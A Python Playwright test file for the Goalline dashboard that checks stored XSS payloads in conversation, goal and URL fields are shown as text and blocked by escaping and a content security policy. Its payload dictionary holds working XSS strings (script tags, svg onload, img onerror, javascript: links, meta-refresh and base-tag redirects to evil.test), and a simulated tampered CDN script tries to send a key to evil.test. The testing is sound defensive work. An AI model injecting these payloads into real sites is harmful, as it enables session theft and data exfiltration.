"""Words that are attacks, in every field that a page shows: they are shown, and nothing of them runs, in a browser."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import timedelta

import pytest
from dramatiq.brokers.stub import StubBroker
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, Route, expect

from goalline import pipeline
from goalline.bootstrap import Services
from goalline.domain.event import Event
from goalline.domain.goal import GoalDraft, Kind
from goalline.domain.key import Scope
from goalline.domain.transcript import Delivery
from goalline.settings import Settings
from goalline.store import projects, schema
from goalline.store.database import Database
from goalline.store.goals import goals
from goalline.store.tables import Project
from goalline.worker import utc_now
from tests.api.world import ScriptedJudge, make_key
from tests.e2e.site import served

RUN = "window.ran=1;alert(1)"
OVERRIDE = "\N{RIGHT-TO-LEFT OVERRIDE}"
ATTACKS = {
    "script": f"<script>{RUN}</script>",
    "closing": f"</title></script></textarea></option></q><script>{RUN}</script>",
    "svg": f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName="x" dur="1s"></svg>',
    "image": f"<img src=x onerror={RUN}>",
    "attribute": f'" autofocus onfocus="{RUN}" x="',
    "link": f'<a href="javascript:{RUN}">javascript:{RUN}</a>',
    "style": "<style>body{display:none}</style><link rel=stylesheet href=//evil.test/x.css>",
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>" src="//evil.test/"></iframe>',
    "away": "<meta http-equiv=refresh content='0;url=//evil.test/'><base href=//evil.test/>",
    "form": "<form action=//evil.test/><button>Sign in</button></form>",
    "comment": "<!-- all that follows is gone",
    "template": "{{ 7*191 }}{% raw %}{{ config }}${7*191}#{7*191}",
    "direction": f"{OVERRIDE}txet desrever",
}


@dataclass
class Seen:
    """What a browser did while it showed pages."""

    dialogs: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)
    addresses: set[str] = field(default_factory=set)

    def closes(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()


def attack(database: Database, project: Project, judge: ScriptedJudge, number: int, words: str) -> str:
    """Store a goal, a judged conversation and events that consist of an attack; return Goalline's id of it."""
    now = utc_now()
    # Ids and names have to differ: each begins with its number.
    named = f"{number} {words}"
    steps = [
        {"key": "begin", "name": words, "initial": True},
        {"key": "end", "name": words, "completion": True, "description": words},
    ]
    with database.transaction() as session:
        draft = {"name": named, "description": words, "kind": Kind.SECONDARY, "steps": steps, "agent_id": named}
        goals.create(session, project.id, GoalDraft.model_validate(draft), now - timedelta(days=1))
    judge.quotes[named] = [(1, words)]
    body = {
        "conversation_id": named,
        "agent_id": named,
        "contact_id": named,
        "channel": words[:60],
        "end_reason": words[:200],
        "metadata": {words[:60]: words},
        "ended_at": now,
        "transcript": [{"role": "user", "text": words}, {"role": "agent", "text": f"{words}\n{words}"}],
    }
    receipt = pipeline.receive(database, project, Delivery.model_validate(body), now)
    day = timedelta(days=1)
    work = pipeline.claim(database, receipt.evaluation_id, utc_now(), day)
    assert work
    pipeline.evaluate(database, judge, work, utc_now, give_up_after=day)
    told = [
        *({"type": "goal.step", "goal": named, "step": key} for key in ("begin", "end")),
        {"type": "task.completed", "name": words},
        {"type": "step.executed", "name": words},
    ]
    events = {
        place: Event.model_validate(
            {
                "id": f"{number}-{place}",
                "conversation_id": named,
                "occurred_at": now + timedelta(seconds=place),
                **event,
            }
        )
        for place, event in enumerate(told)
    }
    assert pipeline.track(database, project.id, events, now, len(events)).accepted == len(events)
    return str(receipt.row_id)


@dataclass(frozen=True)
class Site:
    """A running site that was attacked: its address, a key that may read, and the conversations by their attack."""

    address: str
    key: str
    conversations: dict[str, str]


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    database = Database(f"sqlite:///{tmp_path_factory.mktemp('site') / 'goalline.db'}")
    schema.migrate(database)
    judge = ScriptedJudge()
    with database.transaction() as session:
        project = projects.create(session, ATTACKS["script"], "UTC", utc_now())
    conversations = {
        name: attack(database, project, judge, number, words) for number, (name, words) in enumerate(ATTACKS.items())
    }
    with served(Services(Settings(), database, judge, StubBroker(middleware=[]))) as address:
        yield Site(address, make_key(database, project, Scope.READ), conversations)
    database.close()


Enter = Callable[..., Page]


@pytest.fixture
def seen() -> Seen:
    return Seen()


@pytest.fixture
def enter(site: Site, browser: Browser, seen: Seen) -> Iterator[Enter]:
    """Opens the site as somebody who is signed in; with `guarded` false, in a browser that ignores the policy."""
    contexts: list[BrowserContext] = []

    def entered(*, guarded: bool = True) -> Page:
        context = browser.new_context(bypass_csp=not guarded)
        contexts.append(context)
        context.set_default_timeout(15_000)
        context.set_extra_http_headers({"Authorization": f"Bearer {site.key}"})
        page = context.new_page()
        page.on("dialog", seen.closes)
        page.on("console", lambda message: seen.complaints.append(message.text))
        page.on("pageerror", lambda error: seen.complaints.append(str(error)))
        page.on("request", lambda request: seen.addresses.add(request.url.split("/")[2]))
        return page

    yield entered
    for context in contexts:
        context.close()


def nothing_ran(page: Page, site: Site, seen: Seen) -> None:
    assert page.evaluate("window.ran") is None
    assert (seen.dialogs, seen.complaints) == ([], [])
    assert seen.addresses == {site.address.removeprefix("http://")}
    assert page.locator("main").is_visible()
    assert page.evaluate("document.querySelectorAll('script, iframe, style, base, [onload], [onerror]').length") == 0
    assert page.locator("[href^='javascript:']").count() == 0


@pytest.mark.parametrize("guarded", [True, False], ids=["policy", "escaping alone"])
@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_in_every_field_of_a_conversation_is_shown_and_does_not_run(
    site: Site, enter: Enter, seen: Seen, name: str, guarded: bool
) -> None:
    page = enter(guarded=guarded)
    page.goto(f"{site.address}/conversations/{site.conversations[name]}", wait_until="networkidle")
    for element in page.locator("details").all():
        element.evaluate("element => element.open = true")
    text = page.locator("main").text_content() or ""
    words, named = ATTACKS[name], f"{list(ATTACKS).index(name)} {ATTACKS[name]}"
    # Turns (one and two), quote, steps (two), task, path, metadata; id, agent, contact, goal.
    assert text.count(words) >= 12
    assert text.count(named) >= 4
    assert page.title() == f"Conversation {named} · Goalline"
    assert page.locator(".project").text_content() == ATTACKS["script"]
    assert page.locator("h2", has_text="Evaluations").is_visible()
    nothing_ran(page, site, seen)


@pytest.mark.parametrize("guarded", [True, False], ids=["policy", "escaping alone"])
def test_all_attacks_together_do_not_hurt_the_dashboard(site: Site, enter: Enter, seen: Seen, guarded: bool) -> None:
    page = enter(guarded=guarded)
    page.goto(site.address, wait_until="networkidle")
    text = page.locator("main").text_content() or ""
    for number, words in enumerate(ATTACKS.values()):
        # As agent in the filter, as goal in two tables, as conversation.
        assert text.count(f"{number} {words}") >= 4, words
        assert page.get_by_role("option", name=f"{number} {words}", exact=True).count() == 1, words
    nothing_ran(page, site, seen)


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_in_the_address_is_shown_at_most(site: Site, enter: Enter, seen: Seen, name: str) -> None:
    page = enter()
    page.goto(f"{site.address}/sign-in")
    query = page.evaluate("words => encodeURIComponent(words)", ATTACKS[name])
    for path in (f"/?agent={query}", f"/?period={query}", f"/conversations/{query}", f"/sign-in?next={query}"):
        page.goto(site.address + path, wait_until="networkidle")
        # A browser writes refused requests into the console.
        seen.complaints = [line for line in seen.complaints if "Failed to load resource" not in line]
        nothing_ran(page, site, seen)


def test_the_policy_alone_would_stop_what_the_escaping_let_through(site: Site, enter: Enter, seen: Seen) -> None:
    page = enter()
    page.goto(site.address, wait_until="networkidle")
    everything = "".join(words for name, words in ATTACKS.items() if name not in ("comment", "style", "away"))
    page.evaluate("html => document.querySelector('main').insertAdjacentHTML('beforeend', html)", everything)
    page.evaluate(
        "() => { const s = document.createElement('script'); s.text = 'window.ran=1'; document.body.append(s) }"
    )
    page.wait_for_timeout(200)
    assert page.evaluate("window.ran") is None
    assert seen.dialogs == []
    assert any("Content Security Policy" in line for line in seen.complaints)
    assert seen.addresses == {site.address.removeprefix("http://")}


def test_a_name_that_turns_the_direction_of_writing_turns_only_itself(site: Site, enter: Enter) -> None:
    page = enter()
    page.goto(f"{site.address}/conversations/{site.conversations['direction']}")
    for role in ("initial", "completion"):
        row = page.locator("li", has=page.get_by_text(role, exact=True)).first
        name, behind = row.locator("bdi").bounding_box(), row.get_by_text(role, exact=True).bounding_box()
        assert name
        assert behind
        assert behind["x"] >= name["x"] + name["width"] - 1


@pytest.mark.parametrize("guarded", [True, False], ids=["policy", "without policy"])
def test_what_the_references_script_might_send_elsewhere_is_stopped_by_the_policy(
    site: Site, enter: Enter, guarded: bool
) -> None:
    # A stand-in for the script of the content network, which tests do not reach: one that was tampered with.
    script = """
        window.SwaggerUIBundle = options => { window.asked = options.url; };
        window.SwaggerUIBundle.presets = {};
        const image = new Promise(done => {
            const i = new Image(); i.onload = i.onerror = done; i.src = 'https://evil.test/image?key';
        });
        window.tried = Promise.allSettled([image, fetch('https://evil.test/fetch?key')]).then(() => true);
        const own = document.createElement('script'); own.text = 'window.ran = 1'; document.head.append(own);
    """
    reached: list[str] = []

    def library(route: Route) -> None:
        css = route.request.url.endswith(".css")
        route.fulfill(body="" if css else script, content_type="text/css" if css else "text/javascript")

    def elsewhere(route: Route) -> None:
        reached.append(route.request.url)
        route.abort()

    page = enter(guarded=guarded)
    page.route("https://cdn.jsdelivr.net/**", library)
    page.route("https://evil.test/**", elsewhere)
    page.goto(f"{site.address}/docs", wait_until="networkidle")
    assert page.evaluate("window.tried")
    # The page's own script ran, which asks for the document.
    assert page.evaluate("window.asked") == "/openapi.json"
    expect(page).to_have_title("Goalline API")
    assert (page.evaluate("window.ran"), len(reached)) == ((None, 0) if guarded else (1, 2))
